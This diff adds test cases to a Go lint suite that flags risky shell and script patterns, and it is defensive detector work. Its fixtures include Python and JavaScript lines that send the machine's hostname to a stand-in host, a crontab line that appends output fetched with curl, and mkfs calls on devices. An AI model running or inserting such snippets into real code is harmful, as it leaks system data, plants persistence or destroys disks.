@@ -139,6 +139,9 @@ var codeCases = []lintCase{
 	// The user's crontab with lines left out adds nothing that runs.
 	{"s.sh", "persistence", "crontab -l 2>/dev/null | grep -vF \"$marker\" | crontab -\n", "note", 1},
 	{"s.sh", "persistence", "(crontab -l; curl -s https://x.example/c) | crontab -\n", "warning", 1},
+	// The host's and the user's names are who the user is, as whoami and hostname.
+	{"a.py", "secret-exfil", "import socket, json, urllib.request\nbody = json.dumps({\"host\": socket.gethostname()}).encode()\nurllib.request.urlopen(urllib.request.Request(\"https://x.example/a\", data=body))\n", "error", 3},
+	{"a.js", "secret-exfil", "const os = require(\"os\");\nfetch(\"https://x.example/a\", {method: \"POST\", body: os.hostname()});\n", "error", 2},
 	// A loop device of an image file is the file: formatting it wipes no disk.
 	{"img.sh", "disk-wipe", "LOOP=$(sudo losetup --find --show --partscan build/disk.img)\nsudo mkfs.ext4 \"${LOOP}p1\"\n", "", 0},
 	{"img.sh", "disk-wipe", "LOOP=$(losetup -f)\nsudo mkfs.ext4 \"$LOOP\"\n", "warning", 2},
